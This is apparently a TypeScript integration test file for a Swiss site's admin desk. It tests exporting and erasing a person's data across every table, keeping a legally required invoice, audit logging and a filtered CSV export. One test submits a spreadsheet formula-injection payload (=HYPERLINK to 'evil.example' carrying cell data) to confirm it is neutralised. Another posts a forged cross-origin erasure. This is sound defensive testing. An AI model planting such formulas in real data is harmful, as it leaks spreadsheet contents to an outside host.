/**
 * Issue 13, "Exports and rights", through the running site as the owner's
 * browser uses it:
 * - `/admin/personne` and its JSON export find a person's rows in every
 *   table by e-mail (any case) and by telephone however it was typed;
 * - "Effacer cette personne" names what it will erase, then erases the
 *   person's rows from every table of the registry and nobody else's,
 *   leaving one audit line without personal data (a course registration's
 *   link token goes with it: the link of its mails then opens nothing);
 * - her invoice is kept (CO art. 958f), without the e-mail and telephone it
 *   was made with, and the page says so before and after (issue 22, item 4);
 * - `/admin/demandes.csv` is the filtered list in the format Swiss Excel
 *   opens (BOM, `;`, CRLF, "24.11.2026 14:05"), a formula typed as a name
 *   neutralised;
 * - without a session every new door refuses (303 to the sign-in page,
 *   401 for `.data`), and an erasure posted from another origin is refused
 *   (403) with nothing erased.
 */
import { REGISTRATION_TOKEN_PURPOSE } from "../../app/courses/booking.server";
import { parse } from "csv-parse/sync";
import { and, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  auditLog,
  contacts,
  courseRegistrations,
  deskUser,
  invoices,
  linkTokens,
  newsletterSubscribers,
} from "../../app/db/schema";
import { TOKEN_PURPOSES } from "../../app/newsletter/subscriptions.server";
import { tableKey } from "../../app/desk/person-registry.server";
import type { PersonKey } from "../../app/desk/person-types";
import { countsOf, findPerson, PERSON_TABLES } from "../../app/features.server";
import {
  createOwner,
  deskFetch,
  signIn,
  startTestServer,
  type CookieJar,
  pageText as textOf,
} from "../support/harness";
import { jean, marie, seedMarieAndJean, sendRequest } from "./desk-person-support";

let site: Awaited<ReturnType<typeof startTestServer>>;
let jar: CookieJar;
let ownerId: string;
/** The path of Marie's course registration's link (`/cours/inscription/{token}`). */
let marieLink: string;

beforeAll(async () => {
  site = await startTestServer({ INVOICE_IBAN: "CH56 0483 5012 3456 7800 9" });
  const owner = await createOwner(site.database.db);
  const [user] = await site.database.db.select({ id: deskUser.id }).from(deskUser);
  ownerId = user!.id;
  jar = await signIn(site.url, owner);

  marieLink = await seedMarieAndJean(site);
}, 120_000);

afterAll(async () => {
  await site?.close();
});

describe("without a session", () => {
  it("sends every new page to the sign-in page, and data requests get 401", async () => {
    for (const path of [
      "/admin/personne",
      "/admin/personne?email=marie.dupont%40example.ch",
      "/admin/personne.json?email=marie.dupont%40example.ch",
      "/admin/demandes.csv",
    ]) {
      const answer = await deskFetch(site.url, path);
      expect(answer.status, path).toBe(303);
      expect(answer.headers.get("location"), path).toBe("/admin/connexion");
      expect(await answer.text(), path).not.toContain("Dupont");
    }
    const data = await deskFetch(site.url, "/admin/personne.data?email=marie.dupont%40example.ch");
    expect(data.status).toBe(401);
  });
  it("erases nothing when the erasure is posted without a session", async () => {
    const answer = await deskFetch(site.url, "/admin/personne", { form: { email: marie.email! } });
    expect(answer.status).toBe(303);
    expect(answer.headers.get("location")).toBe("/admin/connexion");
    expect(countsOf(await findPerson(site.database.db, marie)).contacts).toBe(2);
  });
});

describe("the person's data", () => {
  it("exports by e-mail, whatever its case: her requests under that address and every mail carrying it", async () => {
    const answer = await deskFetch(site.url, "/admin/personne.json?email=MARIE.DUPONT%40example.CH", { jar });
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
    expect(answer.headers.get("content-disposition")).toMatch(
      /^attachment; filename="donnees-personne-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    const exported = (await answer.json()) as { tables: Record<string, Record<string, unknown>[]> };
    expect(exported.tables.contacts!.map((row) => row.email)).toEqual(["Marie.Dupont@Example.ch"]);
    expect(exported.tables.contact_events).toHaveLength(1);
    // Her request's notification, the confirmation mail the contact form's newsletter box asked for,
    // and the older mail whose data carries her address.
    expect(exported.tables.outbox!.map((row) => row.kind).sort()).toEqual([
      "contact-notification",
      "newsletter-confirmation",
      "newsletter-confirmation",
    ]);
    expect(exported.tables.newsletter_subscribers!.map((row) => row.status)).toEqual(["pending"]);
  });
  it("exports by telephone typed either way: both of her requests, not Jean's", async () => {
    for (const typed of ["079 123 45 67", "+41791234567"]) {
      const answer = await deskFetch(site.url, `/admin/personne.json?telephone=${encodeURIComponent(typed)}`, {
        jar,
      });
      const exported = (await answer.json()) as { tables: Record<string, Record<string, unknown>[]> };
      expect(exported.tables.contacts!.map((row) => row.phone).sort(), typed).toEqual([
        "+41 79 123 45 67",
        "079 123 45 67",
      ]);
      // Her two requests' notifications and the owner's notice of her course registration.
      expect(exported.tables.outbox, typed).toHaveLength(3);
      expect(
        exported.tables.course_registrations!.map((row) => row.phoneE164),
        typed,
      ).toEqual(["+41791234567"]);
    }
  });
  it("shows every row on the page, table by table, and says what is wrong with a telephone it cannot read", async () => {
    const page = textOf(
      await (
        await deskFetch(site.url, "/admin/personne?email=marie.dupont%40example.ch&telephone=0791234567", { jar })
      ).text(),
    );
    expect(page).toContain(
      "Trouvé : 2 demandes de contact, 1 changement de statut, 1 abonnement, 1 inscription à un cours, 1 facture, 1 devis, 1 lettre envoyée par la poste, 5 e-mails et 1 compte d’envois du jour.",
    );
    expect(page).toContain("Demandes de contact (2)");
    expect(page).toContain("Factures (1)");
    expect(page).toContain(
      "Gardée jusqu’au 31 décembre 2036, comme la loi le demande (Code des obligations, art. 958f) : un effacement n’en retire que l’e-mail et le téléphone.",
    );
    expect(page).toContain("m.dupont@example.org");
    expect(page).toContain("Nouveau → En cours");
    expect(page).not.toContain("Muller");
    const wrong = textOf(await (await deskFetch(site.url, "/admin/personne?telephone=abc", { jar })).text());
    expect(wrong).toContain("Ce numéro de téléphone n’est pas lisible");
  });
  it("names what the erasure will remove before anything is erased", async () => {
    const page = textOf(
      await (
        await deskFetch(site.url, "/admin/personne?email=marie.dupont%40example.ch&telephone=0791234567&effacer=1", {
          jar,
        })
      ).text(),
    );
    expect(page).toContain(
      "Cela efface définitivement : 2 demandes de contact, 1 changement de statut, 1 abonnement, 1 inscription à un cours, 1 devis, 1 lettre envoyée par la poste, 5 e-mails et 1 compte d’envois du jour.",
    );
    expect(page).toContain(
      "1 facture est gardée 10 ans, comme la loi le demande (Code des obligations, art. 958f) : le nom et l’adresse y restent ; l’e-mail et le téléphone en seront effacés.",
    );
    expect(page).toContain("Oui, effacer définitivement");
    expect(countsOf(await findPerson(site.database.db, marie)).contacts).toBe(2);
  });
});

describe("the CSV of the requests", () => {
  it("is the filtered list as Swiss Excel opens it, a formula typed as a name neutralised", async () => {
    await sendRequest(site, {
      firstName: '=HYPERLINK("https://evil.example/?d="&C2,"Cliquez")',
      lastName: "Dupont",
      email: "piege@example.ch",
    });
    const answer = await deskFetch(site.url, "/admin/demandes.csv?q=dupont", { jar });
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(
      /^attachment; filename="demandes-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const bytes = Buffer.from(await answer.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text.split("\r\n")[0]).toBe(
      "\uFEFFN°;Reçue le;Statut;Prénom;Nom;E-mail;Téléphone;Service;Organisation;Commune;Nombre de personnes;Message;Lettre d’information;Consentement le;Note;Type;Moments pour rappeler;Mot de code",
    );
    const rows = parse(text, { bom: true, delimiter: ";", columns: true }) as Record<string, string>[];
    // The requests matching "dupont", newest first: the trap, then Marie's two; not Jean's.
    expect(rows.map((row) => row["E-mail"])).toEqual([
      "piege@example.ch",
      "m.dupont@example.org",
      "Marie.Dupont@Example.ch",
    ]);
    expect(rows[0]!["Prénom"]).toBe(`'=HYPERLINK("https://evil.example/?d="&C2,"Cliquez")`);
    const [stored] = await site.database.db
      .select({ createdAt: contacts.createdAt })
      .from(contacts)
      .where(eq(contacts.email, "piege@example.ch"));
    const received = new Intl.DateTimeFormat("de-CH", {
      timeZone: "Europe/Zurich",
      day: "2-digit",
      month: "2-digit",
      year: "numeric",
      hour: "2-digit",
      minute: "2-digit",
    })
      .format(new Date(stored!.createdAt))
      .replace(",", "");
    expect(rows[0]!["Reçue le"]).toBe(received);
    expect(rows[2]).toMatchObject({
      Statut: "En cours",
      Nom: "Dupont",
      Téléphone: "079 123 45 67",
      Message: "Bonjour,\nj’aimerais apprendre à utiliser mon smartphone.",
      "Lettre d’information": "Oui",
    });
    const inProgress = await deskFetch(site.url, "/admin/demandes.csv?statut=en-cours&q=dupont", { jar });
    const filtered = parse(await inProgress.text(), { bom: true, delimiter: ";", columns: true }) as Record<
      string,
      string
    >[];
    expect(filtered.map((row) => row["E-mail"])).toEqual(["Marie.Dupont@Example.ch"]);
  });
});

describe("erasing a person", () => {
  const form = { email: "marie.dupont@example.ch", telephone: "079 123 45 67" };

  it("refuses an erasure posted from another origin, and erases nothing", async () => {
    const answer = await deskFetch(site.url, "/admin/personne", {
      jar,
      form,
      headers: { Origin: "https://evil.example" },
    });
    // 403 from the desk's guard, or 400 where React Router's own origin check answers first.
    expect([400, 403]).toContain(answer.status);
    expect(countsOf(await findPerson(site.database.db, marie))).toEqual({
      contacts: 2,
      contact_events: 1,
      newsletter_subscribers: 1,
      course_registrations: 1,
      invoices: 1,
      quotes: 1,
      postal_letters: 1,
      outbox: 5,
      recipient_mail_days: 1,
    });
  });

  it("erases her rows from every table, leaves Jean's, and audits counts only", async () => {
    const before = countsOf(await findPerson(site.database.db, marie));
    // Every table of the registry has rows of hers here: a table added to the registry must be seeded above.
    for (const entry of PERSON_TABLES) expect(before[tableKey(entry)], tableKey(entry)).toBeGreaterThan(0);
    const jeanBefore = countsOf(await findPerson(site.database.db, jean));
    const registrationIds = (await findPerson(site.database.db, marie))
      .find(({ entry }) => entry.table === courseRegistrations)!
      .rows.map((row) => String(row.id));
    expect((await fetch(`${site.url}${marieLink}`)).status).toBe(200);
    const tokensOfHer = () =>
      site.database.db
        .select()
        .from(linkTokens)
        .where(and(eq(linkTokens.purpose, REGISTRATION_TOKEN_PURPOSE), inArray(linkTokens.subject, registrationIds)));
    expect(await tokensOfHer()).toHaveLength(1);
    // Her pending subscription's confirmation link is a token too.
    const subscriptionIds = (await findPerson(site.database.db, marie))
      .find(({ entry }) => entry.table === newsletterSubscribers)!
      .rows.map((row) => String(row.id));
    const subscriptionTokens = () =>
      site.database.db
        .select()
        .from(linkTokens)
        .where(and(eq(linkTokens.purpose, TOKEN_PURPOSES.confirm), inArray(linkTokens.subject, subscriptionIds)));
    expect(await subscriptionTokens()).toHaveLength(1);

    const answer = await deskFetch(site.url, "/admin/personne", { jar, form });
    expect(answer.status).toBe(303);
    // Her confirmed seat, in a session still to come, is freed: the owner is told (decision 019).
    expect(answer.headers.get("location")).toMatch(
      /^\/admin\/personne\?effacement=contacts:2,contact_events:1,newsletter_subscribers:1,course_registrations:1,quotes:1,postal_letters:1,outbox:5,recipient_mail_days:1&liberees=\d+&factures=1$/,
    );
    const result = textOf(await (await deskFetch(site.url, answer.headers.get("location")!, { jar })).text());
    expect(result).toContain(
      "Effacement terminé : 2 demandes de contact, 1 changement de statut, 1 abonnement, 1 inscription à un cours, 1 devis, 1 lettre envoyée par la poste, 5 e-mails et 1 compte d’envois du jour.",
    );
    expect(result).toContain("Place libérée pour « Sécurité et protection », mardi 15 janvier 2030, 14 h 00");
    expect(result).toContain(
      "1 facture est gardée 10 ans, comme la loi le demande (Code des obligations, art. 958f) : le nom et l’adresse y restent ; l’e-mail et le téléphone en sont effacés.",
    );

    const after = countsOf(await findPerson(site.database.db, marie));
    expect(after).toEqual(Object.fromEntries(PERSON_TABLES.map((entry) => [tableKey(entry), 0])));
    expect(countsOf(await findPerson(site.database.db, jean))).toEqual(jeanBefore);
    expect(jeanBefore.contacts).toBe(1);
    // Her invoice stays, as issued (number, name, address, amount), without her e-mail and telephone.
    const kept = await site.database.db.select().from(invoices);
    expect(kept).toHaveLength(1);
    expect(kept[0]).toMatchObject({
      number: "2026-001",
      clientName: "Marie Dupont",
      street: "Rue du Lac",
      totalCentimes: 5500,
      email: null,
      phone: null,
      phoneE164: null,
      registrationId: null,
    });
    // Her registration's link token went with it: the link of her mails opens nothing.
    expect(await tokensOfHer()).toEqual([]);
    expect(await subscriptionTokens()).toEqual([]);
    expect((await fetch(`${site.url}${marieLink}`)).status).toBe(404);

    const audits = await site.database.db.select().from(auditLog).where(eq(auditLog.action, "erasure"));
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({
      actor: ownerId,
      details: {
        contacts: 2,
        contact_events: 1,
        newsletter_subscribers: 1,
        course_registrations: 1,
        outbox: 5,
        invoices_kept: 1,
        recipient_mail_days: 1,
      },
    });
    const written = JSON.stringify(audits[0]).toLowerCase();
    for (const personal of ["marie", "dupont", "@", "079", "791234567", "example"])
      expect(written).not.toContain(personal);
  });
});

describe("a callback request (/rappel: a telephone, no e-mail)", () => {
  const rose: PersonKey = { email: null, phoneE164: "+41266543210" };

  it("is found by telephone with its notification, exported with its half-days and code word, and erased with it", async () => {
    const params = new URLSearchParams({ firstName: "Rose", lastName: "Savary", phone: "026 654 32 10", website: "" });
    for (const halfDay of ["mercredi-matin", "vendredi-apres-midi"]) params.append("halfDays", halfDay);
    const sent = await fetch(`${site.url}/rappel`, {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" },
      body: params.toString(),
    });
    expect(sent.status).toBe(200);
    expect(countsOf(await findPerson(site.database.db, rose))).toMatchObject({ contacts: 1, outbox: 1 });

    const exported = (await (
      await deskFetch(site.url, "/admin/personne.json?telephone=%2B41%2026%20654%2032%2010", { jar })
    ).json()) as { tables: Record<string, Record<string, unknown>[]> };
    expect(exported.tables.contacts!).toHaveLength(1);
    expect(exported.tables.contacts![0]).toMatchObject({
      kind: "rappel",
      email: null,
      halfDays: ["mercredi-matin", "vendredi-apres-midi"],
    });
    expect(String(exported.tables.contacts![0]!.codeWord)).toMatch(/^\p{Ll}+ \p{Ll}+$/u);
    expect(exported.tables.outbox!.map((row) => row.kind)).toEqual(["callback-notification"]);
    const page = textOf(
      await (await deskFetch(site.url, "/admin/personne?telephone=026%20654%2032%2010", { jar })).text(),
    );
    expect(page).toContain("Demande de rappel");
    expect(page).toContain("Mercredi matin, Vendredi après-midi");

    const jeanBefore = countsOf(await findPerson(site.database.db, jean));
    const answer = await deskFetch(site.url, "/admin/personne", {
      jar,
      form: { email: "", telephone: "026 654 32 10" },
    });
    expect(answer.status).toBe(303);
    expect(answer.headers.get("location")).toMatch(
      /^\/admin\/personne\?effacement=contacts:1,.*outbox:1,recipient_mail_days:0$/,
    );
    expect(countsOf(await findPerson(site.database.db, rose))).toEqual(
      Object.fromEntries(PERSON_TABLES.map((entry) => [tableKey(entry), 0])),
    );
    expect(countsOf(await findPerson(site.database.db, jean))).toEqual(jeanBefore);
  });
});
